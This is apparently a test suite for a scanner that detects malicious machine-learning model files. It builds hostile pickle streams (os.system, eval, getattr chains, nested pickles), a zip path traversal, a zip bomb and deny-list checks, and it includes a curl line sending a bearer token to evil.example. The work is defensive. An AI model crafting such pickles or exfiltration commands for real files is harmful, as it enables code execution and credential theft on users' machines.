import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { analyseModelFile, type ModelFileVerdict } from './index.js';
import { PickleWriter, callPickle, memoryModelInput, npyHeader, stateDictPickle, zipBytes } from './fixtures.js';
import { judgeGlobal } from './globals-policy.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const fixture = (name: string) => analyseModelFile(memoryModelInput(name, readFileSync(path.join(here, 'testdata', name))));
const analyse = (rel: string, data: Buffer) => analyseModelFile(memoryModelInput(rel, data));
/** `severity:type(callables)@start` for compact, exact assertions. */
const brief = (v: ModelFileVerdict) => v.detections.map((d) => `${d.severity}:${d.type}${d.callables?.length ? `(${d.callables.join(',')})` : ''}@${d.start}`);

test('STACK_GLOBAL operands parked in the memo out of order are resolved', async () => {
  const v = await fixture('memo-stack-global.pkl');
  assert.equal(v.format, 'pickle');
  assert.equal(v.malicious, true);
  assert.deepEqual(brief(v), ['critical:pickle-dangerous-global(subprocess.getoutput)@61']);
  assert.ok(v.detections[0]!.reasons!.includes('called by REDUCE at byte 67'));
});

test('a benign torch checkpoint yields nothing', async () => {
  assert.deepEqual(v0(await fixture('benign-checkpoint.pt')), { format: 'pytorch-zip', detections: [], malicious: false });
});

test('work is proportional to the pickle, not the tensor data: a 40 MB checkpoint reads a few blocks', async () => {
  const data = zipBytes([
    { name: 'archive/data.pkl', data: stateDictPickle([{ key: 'w', numel: 10_000_000 }]) },
    { name: 'archive/data/0', data: Buffer.alloc(40_000_000, 0x80) },
    { name: 'archive/version', data: Buffer.from('3\n') },
  ]);
  let read = 0;
  const input = { ...memoryModelInput('big.pt', data), range: async (o: number, l: number) => ((read += Math.min(l, data.length - o)), data.subarray(o, o + l)) };
  const v = await analyseModelFile(input);
  assert.deepEqual(v0(v), { format: 'pytorch-zip', detections: [], malicious: false });
  assert.ok(read < 512 * 1024, `read ${read} bytes`);
});

test('zip tricks: encryption flag on plaintext, deflated data.pkl under another top folder', async () => {
  const v = await fixture('evil-checkpoint.ckpt');
  assert.equal(v.format, 'pytorch-zip');
  assert.deepEqual(brief(v), ['critical:pickle-dangerous-global(posix.system)@0', 'medium:zip-flag-anomaly@0']);
  assert.equal(v.detections[0]!.entry, 'weights/data.pkl');
});

test('compressed joblib, object arrays, Keras Lambda, GGUF template, ONNX escape', async () => {
  assert.deepEqual(brief(await fixture('model.pkl.z')), ['critical:pickle-dangerous-global(os.system)@0']);
  assert.deepEqual(brief(await fixture('object-array.npy')), ['low:numpy-object-array@0', 'critical:pickle-dangerous-global(subprocess.Popen)@130']);
  const keras = await fixture('lambda-model.json');
  assert.deepEqual(brief(keras), ['critical:keras-lambda(keras.layers.Lambda)@0']);
  assert.ok(keras.detections[0]!.reasons!.includes('its bytecode names __import__, system'));
  assert.deepEqual(brief(await fixture('chat-template.gguf')), ['critical:gguf-template-code(tokenizer.chat_template)@112']);
  const onnx = await fixture('escape.onnx');
  assert.deepEqual(brief(onnx), ['medium:onnx-custom-domain(evil.ops.Shell)@0', 'high:onnx-external-data-escape@45']);
});

test('protocols 0-5, INST and OBJ call sites, Python 2 names', async () => {
  for (const p of [0, 1, 2, 3, 4, 5]) {
    const w = new PickleWriter();
    if (p >= 2) w.proto(p);
    const v = await analyse('p.pkl', w.global('os', 'system').mark().raw("S'id'\n").tuple().reduce().stop().toBuffer());
    assert.deepEqual(brief(v), [`critical:pickle-dangerous-global(os.system)@${p >= 2 ? 2 : 0}`], `protocol ${p}`);
  }
  const inst = await analyse('i.pkl', new PickleWriter().mark().raw("S'id'\n").raw('i', 'subprocess\ncheck_output\n').stop().toBuffer());
  assert.deepEqual(brief(inst), ['critical:pickle-dangerous-global(subprocess.check_output)@7']);
  assert.ok(inst.detections[0]!.reasons!.includes('called by INST at byte 7'));
  const obj = await analyse('o.pkl', new PickleWriter().mark().global('__builtin__', 'eval').raw("S'1'\n").raw('o').stop().toBuffer());
  assert.deepEqual(brief(obj), ['critical:pickle-dangerous-global(__builtin__.eval)@1']);
});

test('names reached at load time: getattr chains, attrgetter, planted attributes, nested pickles', async () => {
  // getattr(__import__('os'), 'system')('id')
  const chain = new PickleWriter().proto(4).stackGlobal('builtins', 'getattr').stackGlobal('builtins', '__import__').str('os').tuple(1).reduce().str('system').tuple(2).reduce().str('id').tuple(1).reduce().stop().toBuffer();
  assert.deepEqual((await analyse('c.pkl', chain)).detections.map((d) => d.callables?.[0]), ['builtins.getattr', 'builtins.__import__', 'os', 'os.system']);
  // BUILD on a global plants a string that a later GLOBAL of the attribute returns.
  const planted = new PickleWriter().proto(4).stackGlobal('collections', 'OrderedDict').raw('N}').str('m').str('posix').raw('s').tuple(2).build().raw('0')
    .global('collections', 'OrderedDict.m').str('system').raw(0x93).str('id').tuple(1).reduce().stop().toBuffer();
  const p = await analyse('b.pkl', planted);
  assert.deepEqual(brief(p).filter((s) => !s.startsWith('medium')), ['high:pickle-global-mutation@43', 'critical:pickle-dangerous-global(posix.system)@80']);
  // pickle.loads(b'<inner pickle>'): the inner stream is analysed with file offsets.
  const inner = callPickle('os', 'system', 'id', 2);
  const nested = new PickleWriter().proto(4).stackGlobal('pickle', 'loads').bytes(inner).tuple(1).reduce().stop().toBuffer();
  assert.deepEqual(brief(await analyse('n.pkl', nested)), ['critical:pickle-dangerous-global(pickle.loads)@17', 'critical:pickle-dangerous-global(os.system)@22']);
});

test('concatenated, broken and type-confused streams', async () => {
  const two = Buffer.concat([new PickleWriter().proto(2).raw('}').stop().toBuffer(), callPickle('nt', 'system', 'calc', 2)]);
  const v = await analyse('two.pkl', two);
  assert.deepEqual(brief(v), ['critical:pickle-dangerous-global(nt.system)@6']);
  assert.ok(v.detections[0]!.reasons!.some((r) => r.startsWith('in pickle stream 2 of 2')));
  const broken = Buffer.concat([callPickle('os', 'system', 'id', 4).subarray(0, -1), Buffer.from([0xff, 0xfe])]);
  assert.deepEqual(brief(await analyse('broken.pkl', broken)), ['critical:pickle-dangerous-global(os.system)@14', 'medium:pickle-broken-stream@21']);
  const confused = new PickleWriter().proto(4).int(42).str('system').raw(0x93).stop().toBuffer();
  assert.deepEqual(brief(await analyse('t.pkl', confused)), ['high:pickle-unresolved-global@12']);
});

test('allow-list, deny-list and unknown globals', () => {
  assert.equal(judgeGlobal('torch._utils._rebuild_tensor_v2').verdict, 'safe');
  assert.equal(judgeGlobal('collections.OrderedDict').verdict, 'safe');
  assert.equal(judgeGlobal('numpy.core.multiarray._reconstruct').verdict, 'safe');
  assert.equal(judgeGlobal('sklearn.linear_model._logistic.LogisticRegression').verdict, 'safe');
  assert.deepEqual([judgeGlobal('__builtin__.exec').severity, judgeGlobal('posix.system').severity, judgeGlobal('requests.api.get').severity], ['critical', 'critical', 'high']);
  assert.deepEqual(judgeGlobal('mylib.models.Net'), { verdict: 'unknown', severity: 'medium', category: 'unknown global', reason: 'not on the allow-list of globals model files need' });
  // A function nobody vetted whose name says it runs something is raised to high.
  assert.equal(judgeGlobal('somepkg.helpers.run_command').severity, 'high');
  assert.equal(judgeGlobal('numpy.__builtins__').severity, 'critical');
});

test('archives: traversal, overlapping members, tar members, safetensors headers, disguised extensions', async () => {
  const traversal = await analyse('t.zip', zipBytes([{ name: '../../.bashrc', data: Buffer.from('echo hi') }]));
  assert.deepEqual(brief(traversal), ['high:archive-path-traversal@0']);
  // Two directory entries pointing at the same data: the non-recursive zip bomb.
  const one = zipBytes([{ name: 'a.bin', data: Buffer.alloc(100) }]);
  const cdAt = one.readUInt32LE(one.length - 6);
  const central = one.subarray(cdAt, one.length - 22);
  const eocd = Buffer.from(one.subarray(one.length - 22));
  eocd.writeUInt16LE(2, 8);
  eocd.writeUInt16LE(2, 10);
  eocd.writeUInt32LE(central.length * 2, 12);
  const bomb = await analyse('b.zip', Buffer.concat([one.subarray(0, cdAt), central, central, eocd]));
  assert.ok(brief(bomb).includes('high:zip-bomb@0'), JSON.stringify(brief(bomb)));
  // ustar tar holding a pickle member.
  const payload = callPickle('os', 'system', 'id', 2);
  const h = Buffer.alloc(512);
  h.write('archive/pickle', 0, 'latin1');
  h.write(payload.length.toString(8).padStart(11, '0'), 124, 'latin1');
  h[156] = 0x30;
  h.write('ustar', 257, 'latin1');
  const tar = await analyse('legacy.tar', Buffer.concat([h, payload, Buffer.alloc(1024 - payload.length + 512)]));
  assert.deepEqual(brief(tar), ['critical:pickle-dangerous-global(os.system)@514']);
  const st = Buffer.alloc(8);
  st.writeBigUInt64LE(1_000_000_000_000n);
  assert.deepEqual(brief(await analyse('w.safetensors', Buffer.concat([st, Buffer.from('{"a":1}')]))), ['medium:safetensors-invalid-header@0']);
  const disguised = await analyse('w.safetensors', callPickle('os', 'system', 'id', 4));
  assert.deepEqual(brief(disguised), ['medium:format-extension-mismatch@0', 'critical:pickle-dangerous-global(os.system)@14']);
  const npy = await analyse('a.npy', Buffer.concat([npyHeader('<f4', [4]), Buffer.alloc(16)]));
  assert.deepEqual(v0(npy), { format: 'npy', detections: [], malicious: false });
  const benign = await analyse('sd.pkl', stateDictPickle([{ key: 'w', numel: 4 }]));
  assert.deepEqual(v0(benign), { format: 'pickle', detections: [], malicious: false });
});

function v0(v: ModelFileVerdict) {
  return { format: v.format, detections: v.detections, malicious: v.malicious };
}

test('detections never carry the payload arguments', async () => {
  const secret = 'curl -H "Authorization: Bearer sk-live-abcdef1234567890" evil.example';
  const v = await analyse('s.pkl', callPickle('os', 'system', secret, 4));
  assert.equal(v.malicious, true);
  assert.ok(!JSON.stringify(v).includes('sk-live-abcdef1234567890'));
});
